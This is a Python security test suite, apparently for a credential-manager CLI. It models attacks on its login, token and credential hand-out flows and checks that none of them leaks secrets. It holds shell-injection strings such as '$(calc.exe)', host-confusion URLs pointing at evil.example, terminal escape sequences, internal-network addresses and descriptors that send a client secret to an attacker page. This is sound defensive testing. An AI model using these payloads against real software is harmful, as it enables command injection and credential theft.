"""What an attacker tries, one row each, beside what has to go on working.

A row of `ATTACKS` names the attacker, what is tried, the scene without the attack (the control), what the attacker changes of
it, and the exit statuses with which the attack may end. The control has to succeed. The attack has to end so, or be harmless
(`DONE` and `then`), and nothing of `hides` may reach the other server, an output or an address that a browser is given.
To add an attack, add a row. `$H` is the provider, `$E` the attacker's server, `$W` the folder, `$T` what a person typed.
"""

import contextlib
import http.client
import json
import os
import re
import shutil
import subprocess
import time
import unittest
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass, field, replace

from browser import Browser
from mock_server import ACCESS, API_KEY, CLIENT_SECRET, CODE, SECRETS, TOKEN, MockServer, consents, id_token
from program import ADA, BINARY, DONE, LOCKED, LOGIN_NEEDED, REFUSED, TIMEOUT, USAGE, ProgramTest, text_of
from service import Response, redirect, with_query
from tls import Authority

TYPED = "typed-by-mistake-77aa"
SECRET_FILE = ("--client-id", "client", "--client-secret-file", "$W/client-secret")
PUBLIC = ("--client-id", "client")
LOGIN = ("login", "notes", "--account", ADA)
NO_BROWSER = (*LOGIN, "--no-browser")
INVALID, WRONG_ANSWER, NOT_ALLOWED = (USAGE,), (REFUSED,), (USAGE, REFUSED, LOCKED, LOGIN_NEEDED)


@dataclass(frozen=True)
class Scene:
    """Steps in this order; the first that does not end with 0 is the last."""

    descriptor: str
    first: dict = field(default_factory=dict)  # other providers, which were added before
    answers: dict = field(default_factory=dict)  # of the provider
    evil: dict = field(default_factory=dict)  # of the attacker's server
    source: str = "$W/notes.yaml"
    options: tuple = SECRET_FILE
    edit: str = ""  # what the descriptor is in its place, after it was added
    login: tuple = LOGIN
    during: Callable = None  # what happens while the login waits; returns what is pasted
    after: Callable = None  # what happens to files behind the login
    commands: tuple = ()
    stdin: str = ""
    environment: dict = field(default_factory=dict)
    tls: bool = False
    shows: str = ""  # what the last output has
    then: Callable = None  # what holds in the end


@dataclass(frozen=True)
class Attack:
    attacker: str
    tried: str
    control: Scene
    change: dict
    ends: tuple = INVALID
    hides: tuple = SECRETS
    says: str = r"(?m)^(credmgr|\S+:\d+:\d+): error: "

    @property
    def name(self):
        return "test_" + re.sub(r"\W+", "_", f"{self.attacker} {self.tried}".lower()).strip("_")


# Descriptors.
def code(authorization="$H", token=None, more="", grant="authorization_code", **keys):
    """A descriptor; `keys` go into the leg `authorization`."""
    leg = "".join(f", {name}: {value}" for name, value in keys.items())
    url = authorization if "://" in authorization else f"http://{authorization}/authorize"
    token = f'  token: "http://{token or authorization}/token"\n' if grant == "authorization_code" else ""
    return f'provider: notes\ngrant: {grant}\nendpoints:\n  authorization: {{ url: "{url}"{leg} }}\n{token}{more}\n'


def implicit(more="", **keys):
    return code(grant="implicit", more=more, **keys)


def device(more=""):
    return ('provider: notes\ngrant: device_code\nendpoints:\n  device_authorization: "http://$H/device"\n'
            f'  token: "http://$H/token"\n{more}\n')


FRAGMENT = {"/authorize": consents(code=None, fragment=True, access_token=ACCESS, expires_in="3600")}


def answer(**more):
    return {"/token": {**TOKEN, **more}}


# What happens meanwhile, and what holds.
def ask(test, *arguments, **options):
    outcome = test.run_program(*map(test.fill, arguments), **options)
    return outcome.out


def token_is(token):
    def holds(test, _):
        test.assertEqual(ask(test, "token", "notes").strip(), token)
    return holds


def nothing_is_said(test, outcome):
    test.assertEqual(outcome.out, "", "a credential was handed out")


def sends(url="{redirect}", method="GET", body=None, **headers):
    """A page of another site makes the browser send something to the address where credmgr listens; then the person consents."""
    def happens(test, login):
        address = login.address()
        asked = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(address).query))
        target = urllib.parse.urlsplit(url.replace("{redirect}", asked["redirect_uri"]))
        connection = http.client.HTTPConnection(target.hostname, target.port, timeout=TIMEOUT)
        with contextlib.closing(connection):
            named = {name.replace("_", "-"): value for name, value in headers.items()}
            connection.request(method, f"{target.path}?{target.query}" if target.query else target.path, body, named)
            test.assertGreaterEqual(connection.getresponse().status, 400)
        Browser().open(address)
    return happens


def consent(test, login):
    Browser().open(login.address())


def paste(test, login):
    address = login.address()
    test.ports.append(urllib.parse.urlsplit(dict(urllib.parse.parse_qsl(
        urllib.parse.urlsplit(address).query))["redirect_uri"]).port)
    return Browser(follows_loopback=False).open(address)[2] + "\n"


IMAGE = {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "no-cors", "Sec_Fetch_Dest": "image"}


# The provider that lies.
def steers_by_its_answer():
    kept = "response: { keep: [dc] }\n"
    header = (("header", "notes", "--url", "https://us1.api.notes.example/"),)
    stolen = (("header", "notes", "--url", "http://$E/steal"),)
    control = Scene(code(more=kept + 'hosts: ["{dc}.api.notes.example"]'), answers=answer(dc="us1"), commands=header,
                    shows="Bearer")
    for dc in (
        "$E/?", "$E/", "$E#", "$E?", "u@$E", "$E:80/", "x@$E/",
        "http://$E/?", "http://$E#",
    ):
        yield Attack("provider", f"a data center that is another address {dc}", control, {
            "answers": answer(dc=dc), "commands": stolen}, NOT_ALLOWED)
    yield Attack("provider", "a data center at a refresh", control, {
        "answers": {"/token": lambda server, request: {
            **TOKEN, "dc": "http://$E/?" if request.form_fields()["grant_type"] == "refresh_token" else "us1"}},
        "commands": (("refresh", "notes"), *stolen)}, NOT_ALLOWED)
    yield Attack("provider", "a data center in the redirect", replace(
        control, descriptor=code(response="{ keep: [dc] }", more='hosts: ["{dc}.api.notes.example"]'),
        answers={"/authorize": consents(dc="us1")}), {
        "answers": {"/authorize": consents(dc="http://$E/?")}, "commands": stolen}, NOT_ALLOWED)
    identity = '  identity: { url: "http://$H/me", response: { keep: [dc] } }\naccount: name\nhosts: ["{dc}.api.notes.example"]'
    yield Attack("provider", "a data center in the identity", replace(
        control, descriptor=code(more=identity), answers={"/me": {"name": ADA, "dc": "us1"}}), {
        "answers": {"/me": {"name": ADA, "dc": "http://$E/?"}}, "commands": stolen}, NOT_ALLOWED)
    whole = Scene(code(more='response: { keep: [instance_url] }\nhosts: ["{instance_url}"]'),
                  answers=answer(instance_url="https://eu1.notes.example"), shows="Bearer",
                  commands=(("header", "notes", "--url", "https://eu1.notes.example/"),))
    for url in (
        "https://u:p@evil.example",
    ):
        yield Attack("provider", f"an instance that is no plain address {url}", whole, {
            "answers": answer(instance_url=url), "commands": (("header", "notes", "--url", "https://evil.example/"),)},
            NOT_ALLOWED)
    yield Attack("descriptor", "all hosts below a data center", replace(
        control, descriptor=code(more='hosts: ["*.notes.example"]')), {"descriptor": code(more=kept + 'hosts: ["*.{dc}"]')})


def answers_badly():
    control = Scene(code())
    for name in ("code", "state"):
        def twice(server, request, name=name):
            asked = dict(request.query)
            return redirect(with_query(asked["redirect_uri"], [(name, "first"), ("code", CODE), ("state", asked["state"])]))
        yield Attack("provider", f"{name} twice", control, {
            "answers": {"/authorize": twice}, "login": (*LOGIN, "--timeout", "3s")}, (REFUSED, USAGE, LOGIN_NEEDED, 5))
    for kind in ("DPoP", "mac", "N_A"):
        yield Attack("provider", f"a token of the type {kind}", Scene(code()), {"answers": answer(token_type=kind)}, WRONG_ANSWER)

    def claims(**change):
        def token(server, request):
            nonce = dict(server.requests("/authorize")[-1].query).get("nonce")
            own = {"iss": server.base, "aud": "client", "sub": "42", "nonce": nonce, "exp": int(time.time()) + 600,
                   "iat": int(time.time()), **change}
            return {**TOKEN, "id_token": id_token(**{name: value for name, value in own.items() if value is not None})}
        return {"/token": token, "/me": {"sub": "42", "name": ADA}}

    openid = 'nonce: true\nissuer: "http://$H"\nscope: [openid]\n'
    signed = Scene(code(more=openid), answers=claims())
    yield Attack("provider", "no ID token where a nonce was sent", signed, {"answers": {}}, WRONG_ANSWER)
    for name, change in (
        ("another nonce", {"nonce": "x"}), ("no signature", {"algorithm": "none"}),
        ("another issuer", {"iss": "https://evil.example"}),
        ("another audience", {"aud": "another-client"}), ("an expiry that is past", {"exp": 1}),
        ("two audiences without a party", {"aud": ["client", "another-client"]}),
        ("another authorized party", {"aud": ["client", "b"], "azp": "another-client"}),
    ):
        yield Attack("provider", f"an ID token with {name}", signed, {"answers": claims(**change)}, WRONG_ANSWER)
    who = '  identity: "http://$H/me"\naccount: name\n'
    yield Attack("provider", "an ID token of another person than the identity", replace(
        signed, descriptor=code(more=who + openid)), {"answers": claims(sub="43")}, WRONG_ANSWER)


def speaks_to_a_shell():
    page = {"device_code": "d", "user_code": "AAAA-BBBB", "verification_uri": "http://$H/activate", "expires_in": 60,
            "interval": 1}

    def harmless(test, _):
        for address in test.addresses:
            test.assertNotRegex(address, r"[$`'\"();|{}<>\\^]")

    for name, text in (("a substitution", "$(calc.exe)"), ("backticks", "`calc.exe`"), ("quotes", "a';calc.exe;'")):
        yield Attack("provider", f"{name} in the device page", Scene(
            device(), answers={"/device": {**page, "verification_uri_complete": "http://$H/activate?code=AAAA"}},
            then=harmless), {
            "answers": {"/device": {**page, "verification_uri_complete": f"http://$H/activate?code={text}"}}},
            (DONE, REFUSED))
        yield Attack("descriptor", f"{name} in the authorization endpoint", Scene(code(), then=harmless), {
            "descriptor": code(f"http://$H/authorize?ui={text.replace(chr(39), chr(39) * 2)}")}, (DONE, USAGE))
    yield Attack("descriptor", "a substitution in a scope as it stands", Scene(
        code(more="scope: [read]", verbatim="[scope]"), then=harmless), {
        "descriptor": code(more='scope: ["$(calc.exe)"]', verbatim="[scope]")}, (DONE, USAGE))


def publishes_bad_metadata():
    def metadata(**change):
        own = {"issuer": "http://$H", "authorization_endpoint": "http://$H/authorize", "token_endpoint": "http://$H/token",
               "response_types_supported": ["code"], "code_challenge_methods_supported": ["S256"], **change}
        return {"/.well-known/openid-configuration": {name: value for name, value in own.items() if value is not None}}

    def has_pkce(test, _):
        asked = dict(test.mock.requests("/authorize")[-1].query)
        test.assertEqual(asked.get("code_challenge_method"), "S256")

    control = Scene("", source="http://$H", options=(*PUBLIC, "--as", "notes", "--yes"), answers=metadata(), then=has_pkce)
    for host in (
        "[::1]", "[0:0:0:0:0:ffff:10.0.0.1]", "10.0.0.1",
    ):
        yield Attack("provider", f"a token endpoint inside the network {host}", control, {
            "answers": metadata(token_endpoint=f"https://{host}/token")}, WRONG_ANSWER)


# The descriptor of a stranger.
def takes_secrets_to_a_page():
    page = 'device: { verification_uri_complete: "%s" }\n'
    control = Scene(device(page % "http://$H/activate?code={user_code}"))
    yield Attack("descriptor", "a device page on another host, edited in place", control, {
        "edit": device(page % "https://evil.example/?c={user_code}")})
    yield Attack("descriptor", "the client secret in the device page, edited in place", control, {
        "edit": device(page % "https://evil.example/?c={user_code}&s={client_secret}")})


def redirects_elsewhere():
    control = Scene(implicit(), answers=FRAGMENT, edit=implicit("title: Notes\n"))
    evil = "https://evil.example/cb"
    value = f'{{ r: {{ default: "{evil}" }}, v: {{ default: x }} }}'
    for name, descriptor in (
        ("as it is", implicit(f"redirect: {evil}\n")),
        ("by a variable", implicit(f'redirect: "{{r}}"\nvariables: {value}\n')),
        ("by a piece", implicit(f'redirect: "https://evil.example/{{v}}"\nvariables: {value}\n')),
        ("by an alternative", implicit(f'redirect: "{{v || \\"{evil}\\"}}"\nvariables: {{ v: {{ optional: true }} }}\n')),
        ("by a function", implicit('redirect: "{lowercase(r)}"\n' + f"variables: {value}\n")),
    ):
        yield Attack("descriptor", f"a redirect elsewhere {name}", control, {"edit": descriptor})


def widens_what_was_agreed():
    kept = '  refresh: "http://{api}/token"\nvariables: { api: { default: "$H" } }\nresponse: { keep: %s }\n'
    plain = code(more=kept % "[tenant]" + 'hosts: ["{api}"]\n')
    control = Scene(plain, answers=answer(tenant="t1", api="$E"), commands=(
        ("refresh", "notes"), ("header", "notes", "--url", "http://$H/api")))
    taken = code(more=kept % "{ api: api }" + 'hosts: ["{api}"]\n')
    yield Attack("descriptor", "a kept field of a variable's name, edited in place", control, {"edit": taken}, NOT_ALLOWED)
    for name, descriptor in (("token endpoint", code("$H", "$E", kept % "[tenant]")),
                             ("host", code(more=kept % "[tenant]" + 'hosts: ["$E"]\n')),
                             ("refresh endpoint", code(more=(kept % "[tenant]").replace("{api}", "$E")))):
        yield Attack("descriptor", f"another {name}, edited in place", control, {
            "edit": descriptor, "commands": (("refresh", "notes"), ("header", "notes", "--url", "http://$E/api"))})

    def elsewhere(test):
        """The vault comes back where a descriptor of the same name says something else."""
        key = os.path.join(test.homes[-1], "vault/vault.key")
        test.credmgr("vault", "backup", test.fill("$W/backup"))
        test.new_home()
        test.file("notes.yaml", test.fill(code("$E")))
        test.credmgr("add-provider", test.fill("$W/notes.yaml"), "--client-id", "client")
        test.credmgr("vault", "restore", test.fill("$W/backup"), "--key-file", key)

    moved = Scene(code(), commands=(("refresh", "notes"),))
    yield Attack("descriptor", "the place of another one in a restored vault", moved, {
        "after": elsewhere, "commands": (("refresh", "notes"),)}, NOT_ALLOWED)
    own = code("$H", more='git: { hosts: ["$H"], username: x }\n').replace("provider: notes", "provider: gitlab")
    question = "protocol=%s\nhost=%s\n\n"
    login = ("login", "gitlab", "--account", ADA)
    shadow = Scene(own, login=login, commands=(("git-credential", "get"),), stdin=question % ("http", "$H"), shows=ACCESS)

    def removed(test):
        os.remove(os.path.join(test.homes[-1], "config/providers/gitlab.yaml"))

    yield Attack("descriptor", "a shipped one's hosts in the place of a removed one", shadow, {
        "after": removed, "stdin": question % ("https", "gitlab.com"), "shows": "", "then": nothing_is_said},
        (DONE, *NOT_ALLOWED))
    yield Attack("descriptor", "a shipped one's endpoints in the place of a removed one", replace(
        shadow, commands=(("refresh", "gitlab"),), stdin="", shows=""), {"after": removed}, NOT_ALLOWED)


# Another user of this machine, and whoever looks over a shoulder.
def writes_files():
    git = code(more='git: { hosts: ["$H"], username: x }\ndocker: { hosts: ["$H"] }\n')
    question = "protocol=http\nhost=%s\n\n"
    asked = Scene(git, commands=(("git-credential", "get"),), stdin=question % "$H", shows=ACCESS)

    def index(test):
        for name in ("git-hosts", "docker-hosts"):
            path = os.path.join(test.homes[-1], "config", name)
            text = text_of(path) if os.path.exists(path) else ""
            test.file(path, text + test.fill("host\t$E\tnotes\tx\n"))

    yield Attack("local user", "a line in the index of git's hosts", asked, {
        "after": index, "stdin": question % "$E", "shows": "", "then": nothing_is_said}, (DONE,), says="")
    docker = replace(asked, commands=(("docker-credential", "get"),), stdin="$H")
    yield Attack("local user", "a line in the index of docker's hosts", docker, {
        "after": index, "stdin": "$E", "shows": ""}, (1,), says="")


def looks_at_processes():
    def has_no_state(test, _):
        state = dict(test.mock.requests("/authorize")[-1].query)["state"]
        for address in test.addresses:
            test.assertNotIn(state, address, "every user of the machine can read it")

    yield Attack("local user", "the address in the arguments of the browser", Scene(code()), {"then": has_no_state},
                 (DONE,), says="")

    def unguessable(test, _):
        for port in test.ports:
            test.assertTrue(port != 49152 and (port < 1024 or len(test.ports) < 2 or len(set(test.ports)) > 1), test.ports)

    pasted = Scene(code(), login=(*NO_BROWSER, "--paste"), during=paste)
    yield Attack("local user", "a port that a paste is known to use", pasted, {"then": unguessable}, (DONE,))


def reads_what_was_typed():
    added = Scene(code())
    for words in (
        "add-provider $W/notes.yaml --replace --client-id client --client-secret $T",
        "add-provider $W/notes.yaml --replace --client-id client --client-secret=$T",
        "add-provider $W/notes.yaml --replace --client-id client --secret $T",
        "add-provider $W/notes.yaml --replace --client-id client --client-secert $T",
        "add-provider $W/notes.yaml --replace --client-id client --client-secret-file $T",
        "add-provider $W/notes.yaml --replace --client-id client --client-secret-file=$T",
        "add-provider $W/notes.yaml --replace --client-id client --initial-access-token $T",
        "add-provider $W/notes.yaml --replace --client-id client --set $T",
        "login notes --token $T", "login notes --token=$T", "login notes --with-token=$T", "login notes --with-token $T",
        "login notes --password $T", "login notes --access-token $T", "login notes --pat $T", "login notes -p $T",
        "login notes -p$T", "token notes --api-key $T", "status --bearer $T", "exec notes --token $T -- true",
        "exec nots -- true --password=$T", "vault export $W/copy --passphrase $T", "vault export $W/copy --passphrase=$T",
        "vault protect passphrase --passphrase $T", "vault protect passphrase --passphrase-file $T",
        "vault protect $T", "vault unlock --pass $T", "vault import $W/copy --password $T", "--token $T login notes",
        "--token=$T login notes", "--passphrase=$T vault unlock", "header notes --url http://u:$T@$H/",
        "request notes http://$H/api --header $T", "request notes http://u:$T@$H/api", "add-provider https://u:$T@notes.example",
        "doctor --credential $T", "use notes ada --key $T", "git-setup --token $T",
    ):
        shown = words.replace("$W/", "")
        yield Attack("local user", f"a secret on the command line {shown}", added, {"commands": (tuple(words.split()),)},
                     (USAGE, LOGIN_NEEDED), hides=(TYPED,))
    rule = Scene(code(more='git: { hosts: ["$H"] }\n'), commands=(
        ("use", "notes", ADA, "--for", "http://octo@$H/team"), ("status", "--for", "http://$H/team", "--json")), shows=ADA)

    def not_in_rules(test, _):
        for folder, _, names in os.walk(test.homes[-1]):
            for name in names:
                with open(os.path.join(folder, name), "rb") as file:
                    test.assertNotIn(TYPED.encode(), file.read(), name)

    for url in ("http://octo:$T@$H/team", "http://$T:x@$H/team", "http://$H/team?access_token=$T"):
        yield Attack("local user", f"a password in the URL of a rule {url}", rule, {"commands": (
            ("use", "notes", ADA, "--for", url), ("status", "--for", url.replace("//$T:x@", "//octo:$T@")),
            ("status", "--for", url.replace("//$T:x@", "//octo:$T@"), "--json"), ("log",), ("doctor",)), "shows": "",
            "then": not_in_rules}, (DONE, LOGIN_NEEDED, USAGE), hides=(TYPED,), says="")
    yield Attack("local user", "a password in a URL without a scheme", rule, {"commands": (
        ("use", "notes", ADA, "--for", "octo:$T@$H/team"),)}, hides=(TYPED,))


def keeps_tokens_of_git():
    def helper(test):
        test.file("gitconfig", test.fill("[credential]\n\thelper = store --file=$W/store\n"))
        test.file("store", "")

    def approved(test, host):
        """What git does behind a clone: it asks, and tells all helpers what worked."""
        told = subprocess.run(["git", "credential", "fill"], input=test.fill(f"protocol=http\nhost={host}\n\n"), text=True,
                              env=test.environment, capture_output=True, check=True).stdout
        subprocess.run(["git", "credential", "approve"], input=told, text=True, env=test.environment, check=True)
        return told

    def keeps_others(test, _):
        other = "protocol=https\nhost=other.example\nusername=ada\npassword=own-password\n\n"
        subprocess.run(["git", "credential", "approve"], input=other, text=True, env=test.environment, check=True)
        test.assertIn("own-password", text_of(os.path.join(test.folder, "store")), "other hosts keep their helper")

    def keeps_nothing(test, _):
        test.assertIn(ACCESS, approved(test, "$H"))
        test.assertNotIn(ACCESS, text_of(os.path.join(test.folder, "store")))
        keeps_others(test, _)

    def later(test):
        helper(test)
        test.credmgr("git-setup")
        subprocess.run(["git", "config", "--global", "--add", "credential.helper", test.fill("store --file=$W/store")],
                       env=test.environment, check=True)

    def warned(test, _):
        outcome = test.run_program("doctor")
        test.assertRegex(outcome.out, r"problem +git +git tells the helper .store")
        test.assertIn("git-setup", outcome.out)

    def without_order(test):
        test.file("gitconfig", test.fill(
            f"[credential]\n\thelper = {BINARY} git-credential\n\thelper = store --file=$W/store\n"))
        test.file("store", "")

    git = code(more='git: { hosts: ["$H"], username: x }\n')
    control = Scene(git, after=helper, commands=(("git-setup",),), then=keeps_others)
    yield Attack("local user", "the file of another helper of git", control, {"then": keeps_nothing}, (DONE,), says="")
    yield Attack("local user", "the file of a helper of git that comes later", control, {
        "after": later, "commands": (), "then": keeps_nothing}, (DONE,), says="")
    yield Attack("local user", "the file of a helper behind credmgr that nobody was told of", control, {
        "after": without_order, "commands": (), "then": warned}, (DONE,), says="")
    yield Attack("local user", "the keys of TLS connections", Scene(
        code(), tls=True, commands=(("request", "notes", "https://$H/api"),)), {
        "environment": {"SSLKEYLOGFILE": "$W/keys"},
        "then": lambda test, _: test.assertFalse(os.path.exists(os.path.join(test.folder, "keys")))}, (DONE,), says="")


# A page that the person visits while a login waits.
def visits_during_a_login():
    relaxed = Scene(implicit("state: optional\n"), answers=FRAGMENT, login=NO_BROWSER, during=consent, then=token_is(ACCESS))
    form = {"Content_Type": "application/x-www-form-urlencoded"}
    for name, happens in (
        ("an image with a token in its query", sends("{redirect}?access_token=page-token-1&expires_in=3600", **IMAGE)),
        ("a query with a token", sends("{redirect}?access_token=page-token-1&expires_in=3600")),
        ("a form of another site", sends(method="POST", body="access_token=page-token-1&expires_in=3600",
                                         Origin="https://evil.example", **form)),
    ):
        yield Attack("web page", f"{name}, at a login for a fragment", relaxed, {"during": happens}, (DONE,))
    strict = Scene(code(more="state: optional\npkce: none\n"), login=NO_BROWSER, during=consent, then=token_is(ACCESS))

    def own_code(test, outcome):
        token_is(ACCESS)(test, outcome)
        test.assertEqual(test.mock.got("page-code-1"), [])

    posted = replace(strict, descriptor=code(more="state: optional\npkce: none\n", parameters="{ response_mode: form_post }"))
    yield Attack("web page", "an image with a code", strict, {
        "during": sends("{redirect}?code=page-code-1", **IMAGE), "then": own_code}, (DONE,))
    yield Attack("web page", "a form of another site with a code", posted, {
        "during": sends(method="POST", body="code=page-code-1", Origin="https://evil.example", **form),
        "then": own_code}, (DONE,))
    yield Attack("web page", "a frame with a code", strict, {
        "during": sends("{redirect}?code=page-code-1", Sec_Fetch_Site="cross-site", Sec_Fetch_Mode="navigate",
                        Sec_Fetch_Dest="iframe"), "then": own_code}, (DONE,))

    def often(test, login):
        for _ in range(30):
            with contextlib.suppress(OSError):
                Browser().open(dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(login.address()).query))["redirect_uri"]
                               + "?code=page-code-1&state=x")
        consent(test, login)

    def told_once(test, outcome):
        test.assertLessEqual(test.said.count("does not belong"), 1)

    yield Attack("web page", "a flood of redirects", replace(strict, descriptor=code()), {
        "during": often, "then": told_once}, (DONE,))


# A server that is asked for something, or asks.
def asks_for_a_token():
    kubectl = code(more='hosts: ["$H"]\n')

    def cluster(server):
        return {"KUBERNETES_EXEC_INFO": json.dumps({
            "apiVersion": "client.authentication.k8s.io/v1", "kind": "ExecCredential",
            "spec": {"interactive": False, "cluster": {"server": server}}})}

    control = Scene(kubectl, commands=(("kubectl-credential", "notes"),), environment=cluster("https://$H"), shows=ACCESS)
    for server in (
        "http://10.0.0.1:8080",
        "http://u@10.0.0.1:8080", "10.0.0.1:8080", "http://127.1:80", "http://010.0.0.1", "http://10.0.0.1:8080/ü",
        "http://[fe80::1%25eth0]:80",
        "https://evil.example:6443",
    ):
        yield Attack("asking server", f"kubectl's token for {server}", control, {
            "environment": cluster(server), "shows": ""}, NOT_ALLOWED)
    api = Scene(code(more='hosts: ["$H"]\n'), commands=(("request", "notes", "http://$H/api"),))
    yield Attack("asking server", "a request that is redirected to another host", api, {
        "answers": {"/api": lambda server, request: redirect(server.fill("http://$E/api"))}}, WRONG_ANSWER)
    shown = replace(api, commands=(("header", "notes", "--url", "http://$H/api"),), shows="Bearer")
    for url in ("http://$E/api", "http://$H@$E/api", "http://$E\\@$H/", "https://$H.evil.example/", "http://$H:80@evil.example/",
                "http://evil.example/$H", "//$E/"):
        yield Attack("asking server", f"a header for {url}", shown, {"commands": (("header", "notes", "--url", url),),
                                                                    "shows": ""}, NOT_ALLOWED)
    git = Scene(code(more='git: { hosts: ["$H"], username: x }\n'), commands=(("git-credential", "get"),),
                stdin="protocol=http\nhost=$H\n\n", shows=ACCESS)
    for host in ("$E", "$H.evil.example", "$H%2f.evil.example", "evil.example"):
        yield Attack("asking server", f"git's password for {host}", git, {
            "stdin": f"protocol=http\nhost={host}\n\n", "shows": "", "then": nothing_is_said}, (DONE, USAGE), says="")


def writes_to_the_terminal():
    body = b"\x1b]0;owned\x07 plain \xe2\x80\xae \xc2\x9b31m \x08\n"

    def harmless(test, _):
        terminal = test.terminal("request", "notes", test.fill("http://$H/api"))
        terminal.end()
        test.assertIn("plain", terminal.seen)
        for bad in "\x1b\x07\x08\u202e\x9b":
            test.assertNotIn(bad, terminal.seen.replace("\x1b[K", ""))

    def unchanged(test, _):
        test.assertEqual(ask(test, "request", "notes", "http://$H/api").encode(), body)

    raw = Response(200, body, [("Content-Type", "text/plain")])
    piped = Scene(code(more='hosts: ["$H"]\n'), answers={"/api": raw}, then=unchanged)
    yield Attack("asking server", "control characters for a terminal", piped, {"then": harmless}, (DONE,))

    def visible(test, outcome):
        for bad in "\u2028\u2029\u200b\u200f\u061c\ufeff\u202e\u00ad":
            test.assertNotIn(bad, outcome.out)

    scope = Scene(code(), answers=answer(scope="read write"), commands=(("status", "notes"),), shows="read")
    yield Attack("provider", "characters that are not seen in a scope", scope, {
        "answers": answer(scope="re\u2028ad\u200f\ufeff\u061c\u200b\u00ad"), "shows": "", "then": visible}, (DONE,))


ATTACKS = [attack for rows in (
    steers_by_its_answer,
    answers_badly,
    speaks_to_a_shell,
    publishes_bad_metadata,
    takes_secrets_to_a_page,
    redirects_elsewhere,
    widens_what_was_agreed,
    writes_files,
    looks_at_processes,
    reads_what_was_typed,
    keeps_tokens_of_git,
    visits_during_a_login,
    asks_for_a_token,
    writes_to_the_terminal,
) for attack in rows()]


class Attacks(ProgramTest):
    # The rules for accounts name them, in a file for people.
    accounts = ()
    controlled = set()

    def browser(self):
        """The ordinary one, after what it was given was written down: that is what other users can read of it."""
        ordinary = super().browser()
        script = f"#!/bin/sh\necho \"$1\" >>'{self.folder}/addresses'\nexec '{ordinary}' \"$1\"\n"
        return self.file("noting-browser", script, 0o700)

    @property
    def addresses(self):
        path = os.path.join(self.folder, "addresses")
        return text_of(path).splitlines() if os.path.exists(path) else []

    def fill(self, text):
        """`$H` and the like in a text of the table."""
        if self.mock.tls:
            text = text.replace("http://$H", "https://$H")
        for sign, value in (("$H", f"127.0.0.1:{self.mock.port}"), ("$E", f"127.0.0.1:{self.evil.port}"), ("$W", self.folder),
                            ("$T", TYPED)):
            text = text.replace(sign, value)
        return text

    def step(self, *arguments, during=None, stdin=""):
        began = time.monotonic()
        running = self.start(*map(self.fill, arguments))
        text = during(self, running) if during else self.fill(stdin)
        outcome = running.end(text or "")
        outcome.seconds = time.monotonic() - began
        self.said += outcome.out + outcome.err
        return outcome

    def play(self, scene):
        """Returns how the last step ended, and whether something else had to be there first is up to the scene."""
        self.said, self.ports = "", []
        with contextlib.suppress(FileNotFoundError):
            os.remove(os.path.join(self.folder, "addresses"))
        self.new_home()
        tls = None
        if scene.tls:
            authority = Authority(self.folder)
            tls, self.environment["SSL_CERT_FILE"] = authority.context(), authority.certificate
        self.mock, self.evil = MockServer(scene.answers, self.fill, tls), MockServer(scene.evil, self.fill)
        self.mock.tls = scene.tls
        self.serve(self.mock)
        self.serve(self.evil)
        # A test of a hand-out prints what is asked for; that it goes nowhere else is looked at below.
        self.evil.secrets.clear()
        self.environment.update({name: self.fill(value) for name, value in scene.environment.items()})
        for name, text in (("client-secret", CLIENT_SECRET), ("api-key", API_KEY), ("passphrase", "a-passphrase-of-the-judge")):
            self.file(name, text + "\n")
        if "$W/key.pem" in scene.options:
            subprocess.run(["openssl", "genpkey", "-quiet", "-algorithm", "RSA", "-out", self.fill("$W/key.pem")], check=True,
                           capture_output=True)
        first = scene.first
        if callable(first):
            first(self)
            first = {}
        for name, text in first.items():
            path = self.file(f"{name}.yaml", self.fill(text).replace("provider: notes", f"provider: {name}"))
            self.credmgr("add-provider", path, "--client-id", "client")
        self.file("notes.yaml", self.fill(scene.descriptor))
        provider = (re.search(r"(?m)^provider: (\S+)", scene.descriptor) or [None, "notes"])[1]
        outcome = self.step("add-provider", scene.source, *scene.options)
        if outcome.status:
            return outcome
        if scene.edit:
            self.file(f"{self.homes[-1]}/config/providers/{provider}.yaml", self.fill(scene.edit))
        outcome = self.step(*scene.login, during=scene.during)
        if outcome.status == DONE and scene.after:
            scene.after(self)
        for command in scene.commands:
            if outcome.status:
                break
            outcome = self.step(*command, stdin=scene.stdin)
        if outcome.status == DONE and scene.shows:
            self.assertIn(scene.shows, outcome.out + outcome.err)
        if outcome.status == DONE and scene.then:
            scene.then(self, outcome)
        return outcome

    def run_attack(self, attack):
        # Rows that follow each other often have the same one.
        if id(attack.control) not in self.controlled:
            outcome = self.play(attack.control)
            self.assertEqual(outcome.status, DONE, f"the control does not work:\n{outcome.out}\n{outcome.err}")
            self.controlled.add(id(attack.control))
        outcome = self.play(replace(attack.control, **attack.change))
        self.assertIn(outcome.status, attack.ends, f"the attack ended so:\n{outcome.out}\n{outcome.err}")
        if outcome.status and attack.says:
            self.assertRegex(outcome.err + outcome.out, attack.says)
        for secret in attack.hides:
            self.assertEqual([request.target for request in self.evil.got(secret)], [], f"{secret} is at the attacker's")
            self.assertNotIn(secret, self.said)
            for address in self.addresses:
                self.assertNotIn(secret, urllib.parse.unquote(address))
        for address in (*self.addresses, *(request.target for request in self.mock.requests("/authorize"))):
            self.assertNotIn("evil.example", urllib.parse.unquote(address))


for row in ATTACKS:
    # Some differ in a punctuation mark alone.
    name = next(name for number in range(1, 99) if not hasattr(Attacks, name := row.name + f"_{number}" * (number > 1)))
    setattr(Attacks, name, lambda self, row=row: self.run_attack(row))

if __name__ == "__main__":
    unittest.main()
